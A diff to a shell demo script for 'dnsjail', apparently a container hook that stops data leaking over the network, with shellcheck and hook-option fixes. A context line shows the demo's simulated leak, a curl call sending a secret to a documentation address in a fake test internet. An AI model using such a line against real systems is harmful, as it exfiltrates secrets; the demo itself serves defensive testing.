@@ -21,7 +21,7 @@ if [ -t 1 ]; then
     BOLD=$(printf '\033[1m') GREEN=$(printf '\033[32m') RED=$(printf '\033[31m')
     DIM=$(printf '\033[2m') RESET=$(printf '\033[0m')
 else
-    BOLD= GREEN= RED= DIM= RESET=
+    BOLD='' GREEN='' RED='' DIM='' RESET=''
 fi
 step() { printf '\n%s==> %s%s\n' "$BOLD" "$*" "$RESET"; }
 say() { printf '    %s\n' "$*"; }
@@ -81,7 +81,7 @@ good "built $BUILDDIR/hook/dnsjail-hook and dnsstub/dnsjail-dnsstub"
 # ---- 3. the test world --------------------------------------------------------------------
 step "Building a fake internet (network namespaces, documentation addresses only)"
 export top_srcdir=$SRCDIR top_builddir=$BUILDDIR
-# shellcheck source=../tests/e2e/world.sh
+# shellcheck source-path=SCRIPTDIR source=../tests/e2e/world.sh
 . "$SRCDIR/tests/e2e/world.sh"
 world_up # replaces the EXIT trap with the world's cleanup...
 world_on_cleanup remove_build # ...which now removes the build directory too
@@ -103,8 +103,7 @@ curl -sS -m 3 "http://203.0.113.80/?leak=$1" 2>&1 || true
 run_demo_container() { # LABEL JAIL
     world_ctns "demo$1" || die "cannot make a namespace"
     local opts=()
-    # shellcheck disable=SC2207
-    [ "$2" = yes ] && opts=($(world_hook_opts) --annotation io.dnsjail.enable=true)
+    [ "$2" = yes ] && opts=(--hook "$W_HOOK" --hook-config "$W_CONF" --annotation io.dnsjail.enable=true)
     local b
     b=$(world_bundle "$W_ID-demo-$1" --netns "$W_NS" "${opts[@]}" -- /bin/sh -c "$DEMO_SCRIPT" sh \
         "$SECRET") || die "cannot make the bundle"
